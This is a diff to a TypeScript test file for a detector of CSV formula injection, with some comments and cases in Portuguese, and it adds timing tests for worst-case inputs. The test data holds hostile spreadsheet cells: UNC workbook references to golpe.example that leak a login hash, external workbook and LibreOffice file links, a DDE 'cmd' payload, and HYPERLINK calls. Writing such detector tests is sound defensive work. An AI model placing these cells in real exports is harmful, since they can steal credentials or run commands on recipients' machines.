@@ -113,6 +113,13 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a line separator before the sign', 'pedido;link\n1095;\u2028=HYPERLINK("http://golpe.example")\n'],
     ['a small equals sign', 'pedido;link\n1096;\ufe66HYPERLINK("http://golpe.example")\n'],
     ['a small minus before a DDE link', "pedido;valor\n1097;\ufe63cmd|' /C calc'!A0\n"],
+    // A reference into another file: opened or fetched when links update; a UNC path sends the login's hash.
+    ['a UNC workbook reference after a minus', "pedido;valor\n1098;-'\\\\golpe.example\\s\\[x.xlsx]Plan1'!A1\n"],
+    ['a workbook reference on a path, quoted cell', 'pedido;valor\n1099;"+\'C:\\dados\\[b.xlsx]P\'!A1*2"\n'],
+    ['a linked workbook by number', 'pedido;valor\n1100;+[1]Plan1!A1\n'],
+    ['a UNC path before an item', "pedido;valor\n1101;@'\\\\golpe.example\\s\\x'!nome\n"],
+    ["LibreOffice's link to a web file", "pedido;valor\n1102;-'https://golpe.example/x.ods'#$Plan1.A1\n"],
+    ["LibreOffice's link to a local file", "pedido;valor\n1103;+'file:///C:/x.ods'#Plan1.A1\n"],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -170,6 +177,10 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a full-width negative value and a Japanese list', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n'],
     ['a separator opening the file, then values', ';-15,00;+55 11 98765-4321\n\t-19,90\n'],
     ['blanks before negative values', 'valor;saldo\n\u2002-15,00;\f-19,90\n\ufe63 5,00;\u202f+10\n'],
+    [
+      'fractions, exclamations, numbers and tags in a signed list',
+      "itens\n- 1/2 dúzia! (promo)\n- pedido #123 (urgente)\n- '#1 mais vendido' (loja)\n- [promo] leve 3! (oferta)\n",
+    ],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -250,10 +261,13 @@ describe('csvHasFormula: linear in the shapes of its newer readings', () => {
     ['calls of words never closed', (n: number) => `-A1&${'image(s '.repeat(n)}\n`],
     ['full-width words and brackets', (n: number) => `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(n)}\n`],
     ['separators and blanks in turn', (n: number) => `${';\u2002\f"'.repeat(n)}-a\n`],
-    ['a call of one long word never closed', (n: number) => `-A1&image(${'a'.repeat(n)}\n`],
-    ['a name in capitals, then one long word never closed', (n: number) => `-CAMISETA(${'a'.repeat(n)}\n`],
+    ['brackets, exclamations and hashes with no item', (n: number) => `${';-](! \\\\#'.repeat(n)}\n`],
+    ['a call of one long word never closed', (n: number) => `-A1&image(${'a'.repeat(n)}\n`, 2_000],
+    ['a name in capitals, then one long word never closed', (n: number) => `-CAMISETA(${'a'.repeat(n)}\n`, 2_000],
     ['names and spaces before no bracket', (n: number) => `-A1&WEBSERVICE${' '.repeat(n)}x\n`],
-  ])('%s', (_name, text) => {
-    expect(growth(text, csvHasFormula, 2_000)).toBeLessThan(30);
+    // Each shape at 20,000 (a short input is timed in the host's noise), a long word at 2,000: read
+    // quadratically it takes seconds there, hours at 20,000.
+  ])('%s', (_name, text, size = 20_000) => {
+    expect(growth(text, csvHasFormula, size)).toBeLessThan(30);
   });
 });
